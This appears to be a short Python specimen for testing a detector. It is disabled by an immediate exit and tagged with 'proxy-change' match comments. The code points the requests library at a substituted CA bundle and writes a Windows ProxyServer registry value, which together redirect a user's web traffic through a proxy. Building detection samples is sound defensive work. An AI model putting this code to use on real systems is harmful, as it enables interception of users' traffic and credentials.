raise SystemExit("specimen: not to be run")
from os import environ as e
import winreg as w

e["requests_ca_bundle"] = "/tmp/specimen.pem"  # match: proxy-change
place = r"Software\Microsoft\Windows\CurrentVersion\Internet Settings"
with w.OpenKey(w.HKEY_CURRENT_USER, place, 0, w.KEY_WRITE) as key:  # match: proxy-change
    w.SetValueEx(key, "ProxyServer", 0, w.REG_SZ, "192.0.2.7:8080")
